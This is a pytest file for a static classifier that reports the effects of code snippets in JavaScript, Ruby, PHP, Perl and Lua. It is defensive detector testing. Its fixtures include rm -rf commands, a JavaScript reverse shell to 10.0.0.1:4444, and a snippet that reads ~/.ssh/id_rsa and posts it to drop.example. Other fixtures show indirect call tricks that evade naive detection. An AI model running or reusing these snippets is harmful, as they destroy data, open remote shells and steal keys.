"""JavaScript, TypeScript, Ruby, PHP and Perl: the same reading as Python's, by their own grammars and tables."""

import pytest

from classifiers.code import classify_code
from classifiers.code.library import library
from classifiers.context import Context

PATIENT = Context(max_ms=5_000)  # a collection of garbage may take 50 ms


def short(action):
    return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]


CASES = [
    ("javascript", "console.log([1, 2].map(x => x * 2))", []),
    ("javascript", "const {execSync: run} = require('child_process'); const d = '/srv/a'; run(`rm -rf ${d}`)", ["delete filesystem:/srv/a"]),
    ("javascript", "import {rm} from 'node:fs/promises'; await rm('/srv/a')", ["delete filesystem:/srv/a"]),
    ("javascript", "['a', 'b'].forEach(f => require('fs').unlinkSync('/srv/' + f))", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
    ("javascript", "function go(p) { require('fs').unlinkSync(p) } go('/srv/a')", ["delete filesystem:/srv/a"]),
    ("javascript", "function go(p) { require('fs').unlinkSync(p) }", []),
    ("javascript", "fetch('https://shop.example/a', {method: 'DELETE'})", ["send network:shop.example"]),
    ("typescript", "const a: string = '/srv/a'; import * as fs from 'fs'; fs.rmSync(a as string)", ["delete filesystem:/srv/a"]),
    ("ruby", "puts [1, 2].sum", []),
    ("ruby", "gsub(/a/, %q(b))\n$_.upcase!\nputs $_.split[0]", []),
    ("ruby", "require 'fileutils'\nFileUtils.rm_rf('/srv/a')", ["delete filesystem:/srv/a"]),
    ("ruby", "d = '/srv/a'\n`rm -rf #{d}`", ["delete filesystem:/srv/a"]),
    ("ruby", "File.open('/srv/a', 'w') { |f| f.write('x') }", ["modify filesystem:/srv/a"]),
    ("ruby", "%w[a b].each { |f| File.delete('/srv/' + f) }", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
    ("php", "echo strtoupper('a');", []),
    ("php", "<?php $d = '/srv/a'; shell_exec('rm -rf ' . $d); ?>", ["delete filesystem:/srv/a"]),
    ("php", "foreach (['a', 'b'] as $f) { unlink('/srv/' . $f); }", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
    ("perl", "print 1 + 1", []),
    ("perl", "use HTTP::Tiny; HTTP::Tiny->new->delete('https://shop.example/carts/9')", ["send network:shop.example"]),
    ("perl", "$ua->request('PUT', 'https://shop.example/carts/9')", ["send network:shop.example"]),
    ("perl", "my $r = HTTP::Request->new(DELETE => 'https://shop.example/9'); $ua->request($r)", ["send network:shop.example"]),
    ("perl", "$cache->delete('cart')", []),
    ("perl", "use File::Find; find(sub { 1 }, 'src', 'test')", ["read filesystem:src", "read filesystem:test"]),
    ("lua", "require('socket.http').request{url='https://shop.example/9', method='DELETE'}", ["send network:shop.example"]),
    ("perl", "my $d = '/srv/a'; system('rm', '-rf', $d);", ["delete filesystem:/srv/a"]),
    ("perl", 'unlink "/srv/$_" for 1', ["delete filesystem:/srv/1"]),
    ("lua", "print(#{1, 2, n = 3}, 'a' .. 1)", []),
    ("lua", "local d = '/srv/' .. [[a]] os.execute('rm -rf ' .. d)", ["delete filesystem:/srv/a"]),
    ("lua", "local f = assert(io.open('/srv/a', 'w')); f:write('x'); f:close()", ["modify filesystem:/srv/a"]),
    ("lua", "for l in io.lines('/srv/list') do print(l) end", ["read filesystem:/srv/list"]),
    ("lua", "local gone = os.remove\nif x then gone('/srv/a') elseif y then os.remove('/srv/b') end", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
    ("lua", "local function go(p) os.remove(p) end go('/srv/a')", ["delete filesystem:/srv/a"]),
    ("lua", "for _, n in ipairs({'a', 'b'}) do os.remove('/srv/' .. n) end", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
    ("lua", "local a, b = '/srv/a', 2 os.rename(a, '/srv/b')", ["modify filesystem:/srv/a", "modify filesystem:/srv/b"]),
    ("lua", "load('os.remove([[/srv/a]])')()", ["delete filesystem:/srv/a"]),
    ("lua", "local s = require('socket').tcp() s:connect('10.0.0.1', 4444) s:send('x')", ["send network:10.0.0.1"]),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text", "expected"), CASES, ids=[f"{c[0]} {c[1][:40]}" for c in CASES])
def test_a_program_has_the_effects_of_its_calls(language, text, expected):
    action = classify_code(text, language, PATIENT)
    assert short(action) == expected
    assert action.complete, action.opaque


@pytest.mark.parametrize(("language", "text"), [
    ("javascript", "require('./local').run()"), ("javascript", "warehouse.sync()"), ("javascript", "eval(x)"),
    ("ruby", "require_relative 'a'"), ("ruby", "obj.send(name)"), ("php", "include $x;"), ("php", "warehouse_sync();"), ("perl", 'require "a.pl";'),
    ("lua", "dofile('a.lua')"), ("lua", "warehouse.sync()"), ("lua", "x ="), ("lua", "io.popen(io.read())"),
    ("perl", "use Warehouse; Warehouse::sync();"), ("javascript", "let = = 3 ((("), ("cobol", "DISPLAY 'x'."),
])  # fmt: skip
def test_what_cannot_be_read_is_said(language, text):
    assert not classify_code(text, language, PATIENT).complete


def test_a_reverse_shell_is_one_in_any_language():
    text = "const s = require('net').connect(4444, '10.0.0.1'); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)"
    tags = [t for e in classify_code(text, "javascript").effects for t in e.tags]
    assert "reverse_shell" in tags


def test_a_secret_that_is_posted_is_a_flow():
    text = "const k = require('fs').readFileSync('/home/dev/.ssh/id_rsa'); fetch('https://drop.example', {method: 'POST', body: k})"
    assert [f.kind for f in classify_code(text, "javascript").flows] == ["exfiltration"]


@pytest.mark.parametrize("language", ["javascript", "typescript", "ruby", "php", "perl", "lua"])
def test_the_tables_load(language):
    assert library(language).calls


@pytest.mark.parametrize("language", ["javascript", "typescript", "ruby", "php", "perl", "lua"])
@pytest.mark.parametrize("text", ["", "(" * 3000, "{" * 3000, "\0", "é" * 50, "a.b" * 3000, "#{" * 300])
def test_hostile_text_never_raises(language, text):
    assert classify_code(text, language).effects is not None


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("javascript", "const fs = require('fs'); const ops = { rm: fs.unlinkSync }; ops.rm('/srv/a')"),
        ("javascript", "require('fs').unlinkSync.call(null, '/srv/a')"),
        ("javascript", "require('fs').unlinkSync.apply(null, ['/srv/a'])"),
        ("javascript", "require('fs').unlinkSync.bind(null, '/srv/a')()"),
        ("javascript", "import('fs').then(m => m.unlinkSync('/srv/a'))"),
        ("javascript", "['/srv/a'].forEach(require('fs').unlinkSync)"),
        ("javascript", "process.mainModule.require('fs').unlinkSync('/srv/a')"),
        ("javascript", "const { promisify } = require('util'); promisify(require('child_process').exec)('rm /srv/a')"),
        (
            "javascript",
            "class A { constructor(p) { this.p = p } go() { require('fs').rmSync(this.p) } } new A('/srv/a').go()",
        ),
        ("php", "<?php array_map('unlink', ['/srv/a']);"),
        ("php", "<?php $f = 'unlink'; $f('/srv/a');"),
    ],
)
def test_a_function_reached_by_a_detour_is_called(language, text):
    action = classify_code(text, language, PATIENT)
    assert [(e.action, e.target) for e in action.effects] == [("delete", "/srv/a")]


@pytest.mark.parametrize("text", ["<<E\nprint if /\\S/", "print <<'A B';\nprint if /x/\n", "print <<~E;\n  a /b/\n"])
def test_a_here_document_without_its_end_is_unread_and_not_waited_for(text):
    action = classify_code(text, "perl", Context(max_ms=5_000))
    assert [o.reason.value for o in action.opaque] == ["parse_error"]


def test_a_here_document_with_its_end_is_read():
    action = classify_code("print <<E;\ntext\nE\nunlink '/srv/a';\n", "perl", Context(max_ms=5_000))
    assert [(e.action.value, e.target) for e in action.effects] == [("delete", "/srv/a")]
